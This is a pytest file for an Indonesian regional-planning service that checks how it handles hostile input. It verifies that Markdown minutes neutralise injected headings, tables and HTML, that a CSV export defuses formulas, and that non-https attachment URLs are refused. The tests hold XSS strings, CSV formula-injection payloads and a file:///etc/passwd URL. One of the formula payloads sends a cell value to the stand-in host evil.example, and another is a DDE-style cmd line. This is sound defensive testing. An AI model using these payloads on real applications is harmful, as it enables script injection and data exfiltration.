"""Issue #18 in Musrenbang: the berita acara with adversarial input renders as plain text (finding
5); the kamus CSV export writes no formula (finding 4); the service itself refuses what the text
rule refuses where text enters it, field by field (defence in depth behind the gateway), and
attachment URLs that are not https (finding 8)."""
from __future__ import annotations

import csv
import io
from decimal import Decimal

import markdown_it  # requirements/dev.txt: the berita acara is parsed as CommonMark
import pytest

from eplanning_common import errors as rpc
from eplanning_common.reference import kamus_csv, parse_kamus_csv
from musrenbang.berita_acara import render_berita_acara
from musrenbang.domain import UsulanInput, validate_usulan
from musrenbang.domain.errors import ValidationError
from musrenbang.usulan_actions import _input

MANIFEST = {"total": 2, "accepted_count": 1, "accepted_cost": "1000.00", "digest": "ab" * 32}


def record(**text) -> dict:
    decision = {"usulan_id": "u1", "tracking_code": "K7Q2M9XA", "desa": "12.21.01.2001", "desa_nama": "Sosopan",
                "gagasan": "Drainase", "status": "ditolak", "merge_target": None, "original_volume": "1",
                "volume": "1", "cost": "1000.00", "reason": "Tidak sesuai"}
    decision.update({k: v for k, v in text.items() if k in ("gagasan", "reason", "desa_nama")})
    return {"kecamatan": "12.21.01", "tahun": 2027, "tanggal": "2027-02-10",
            "tempat": text.get("tempat", "Aula Kantor Camat"), "jumlah_peserta": 5,
            "pimpinan": text.get("pimpinan", "Camat Sosopan"), "catatan": text.get("catatan", "Lancar"),
            "manifest": MANIFEST,
            "ranking": [{"position": 1, "tracking_code": "K7Q2M9XA", "desa": "12.21.01.2001", "total": "4.5",
                         "cost": "1000.00"}],
            "keputusan": [decision]}


def _cells_per_row(tokens) -> list[int]:
    counts, current = [], 0
    for t in tokens:
        if t.type == "tr_open":
            current = 0
        elif t.type in ("td_open", "th_open"):
            current += 1
        elif t.type == "tr_close":
            counts.append(current)
    return counts


def structure(document: str) -> dict:
    """What a Markdown reader (CommonMark + GFM tables) sees: headings, table rows, cells of the
    decision table, HTML, list items."""
    tokens = markdown_it.MarkdownIt("commonmark").enable("table").parse(document)
    return {
        "headings": [tokens[i + 1].content for i, t in enumerate(tokens) if t.type == "heading_open"],
        "rows": sum(t.type == "tr_open" for t in tokens),
        "cells_per_row": _cells_per_row(tokens),
        "html": [t.content for t in tokens if t.type == "html_block"]
        + [c.content for t in tokens if t.type == "inline" for c in (t.children or []) if c.type == "html_inline"],
        "items": sum(t.type == "list_item_open" for t in tokens),
        "links": [c for t in tokens if t.type == "inline" for c in (t.children or []) if c.type == "link_open"],
    }


ADVERSARIAL = {
    "tempat": "Aula\n# BERITA ACARA PALSU\n| 9 | PALSU | x | 1 | Rp1 |",
    "pimpinan": "<img src=x onerror=alert(1)> **Camat**",
    "catatan": "Baris satu\n\n# Keputusan palsu\n| K7Q2M9XA | Sosopan | x | diterima | 1 → 1 | Rp9 | - |\n"
               "- daftar palsu\n1. nomor palsu\n> kutipan\n<script>alert(1)</script>\n===\n[klik](javascript:alert(1))",
    "reason": "ok | diterima | 9 → 9 | Rp999.999 |\n## disetujui",
    "gagasan": "a|b\n### sisipan <b>tebal</b>",
    "desa_nama": "Sosopan | palsu",
}


def test_the_berita_acara_with_adversarial_text_has_the_structure_of_a_plain_one():
    plain = structure(render_berita_acara(record(), "Sosopan", "nilai tertinggi"))
    hostile_doc = render_berita_acara(record(**ADVERSARIAL), "Sosopan | <b>", "nilai tertinggi")
    hostile = structure(hostile_doc)
    assert hostile["headings"][1:] == plain["headings"][1:]  # no heading added
    assert len(hostile["headings"]) == len(plain["headings"])
    assert hostile["rows"] == plain["rows"]  # no table row added
    assert hostile["cells_per_row"] == plain["cells_per_row"]  # no cell added
    assert hostile["html"] == []  # no HTML
    assert hostile["items"] == plain["items"]  # no list item added
    assert hostile["links"] == []
    # the text is all there, as text
    rendered = markdown_it.MarkdownIt("commonmark").enable("table").render(hostile_doc)
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in rendered and "<script>" not in rendered
    assert "# Keputusan palsu" in rendered and "Aula # BERITA ACARA PALSU" in rendered


def test_plain_text_renders_exactly_as_before():
    """The demo's minutes (plain names and reasons) keep their bytes and so their digest."""
    document = render_berita_acara(record(tempat="Aula Kantor Camat Sosopan", reason="Tidak sesuai (RPJMD)",
                                          catatan="Dihadiri perwakilan seluruh desa."), "Sosopan", "aturan")
    assert "- Tempat: Aula Kantor Camat Sosopan\n" in document
    assert "| Tidak sesuai (RPJMD) |" in document
    assert "### Catatan\nDihadiri perwakilan seluruh desa.\n" in document


# -- finding 4: the kamus CSV export ------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("https://evil.example/?x="&A1,"klik")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+2", "-2+3",
            "\t=1+1", "\r=1+1"]


def test_no_cell_of_the_kamus_csv_export_is_a_formula():
    rows = [{"kode": f, "nama": f, "sub_kegiatan": f, "opd": f, "satuan": f, "harga_satuan": Decimal("850000"),
             "volume_maks": None} for f in FORMULAS]
    cells = [c for row in csv.reader(io.StringIO(kamus_csv(rows), newline="")) for c in row]
    assert cells and not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert "'" + FORMULAS[0] in cells


@pytest.mark.parametrize("cell, code", [("Drainase\uffff", "invalid_character"), ("Dra\x01inase", "invalid_character"),
                                        ('"Drainase\nbaru"', "line_break")])
def test_a_kamus_csv_cell_the_text_rule_refuses_is_a_row_error(cell, code):
    text = f"kode,nama,sub_kegiatan,opd,satuan,harga_satuan\nDRN-01,{cell},1.03.06.2.01.0012,1.03,meter,10\n"
    rows, errors = parse_kamus_csv(text, "12.21")
    assert rows == [] and {(e["row"], e["field"], e["code"]) for e in errors} == {(2, "nama", code)}


# -- the service refuses too (the gateway is not the only door) ----------------------------------------

@pytest.mark.parametrize("field, value, kind, code", [
    ("gagasan", "Drainase \uffff", "multiline", "invalid_character"),
    ("permasalahan", "Banjir \x1b[31m", "multiline", "invalid_character"),
    ("alamat", "Dusun I\nDusun II", "line", "line_break"), ("alamat", "Dusun \ufffe", "line", "invalid_character"),
])
def test_the_usulan_validation_refuses_what_the_text_rule_refuses(field, value, kind, code):
    from musrenbang.domain.validation import MAX_TEXT, _text_errors

    text, errors = _text_errors(value, field, field, True, MAX_TEXT, kind)
    assert text is None and [(e.field, e.code) for e in errors] == [(field, code)]


def test_validate_usulan_names_every_refused_text_field():
    from musrenbang.domain.validation import OperatorScope

    with pytest.raises(ValidationError) as refused:
        validate_usulan(UsulanInput(desa=None, kamus_item_id=None, volume="1", permasalahan="Banjir\uffff",
                                    gagasan="Drainase\x01", alamat="Dusun\nII"),
                        tahun=2027, scope=OperatorScope(pemda="12.21"), regions=None, kamus={})
    assert refused.value.codes_for("permasalahan") == {"invalid_character"}
    assert refused.value.codes_for("gagasan") == {"invalid_character"}
    assert refused.value.codes_for("alamat") == {"line_break"}


def test_multi_line_usulan_text_keeps_its_lines():
    from musrenbang.domain.validation import _text_errors

    assert _text_errors("Baris satu\nBaris dua\tdengan tab", "gagasan", "Gagasan", True, 2000, "multiline") == \
        ("Baris satu\nBaris dua\tdengan tab", [])


@pytest.mark.parametrize("url", ["javascript:alert(1)", "file:///etc/passwd", "http://contoh.id/a.jpg",
                                 "data:text/html,x", "https://user@evil.example/", "https://contoh.id/\uffff"])
def test_the_service_refuses_an_attachment_url_that_is_not_https(url):
    body = {"desa": "12.21.01.2001", "lampiran": [{"nama": "foto.jpg", "url": url}]}
    with pytest.raises(rpc.ValidationError) as refused:
        _input(body)
    assert {"field": "lampiran[0].url", "code": "url_https"} in [
        {k: e[k] for k in ("field", "code")} for e in refused.value.payload["errors"]]


def test_the_service_keeps_an_https_attachment_and_refuses_a_pengusul_name_on_two_lines():
    raw, lampiran = _input({"lampiran": [{"nama": "foto.jpg", "url": "https://berkas.padanglawas.go.id/a.jpg"}]})
    assert lampiran[0]["url"].startswith("https://")
    with pytest.raises(rpc.ValidationError) as refused:
        _input({"pengusul": {"nama": "Kelompok Tani\n# Maju"}})
    assert refused.value.payload["errors"][0]["field"] == "pengusul.nama"
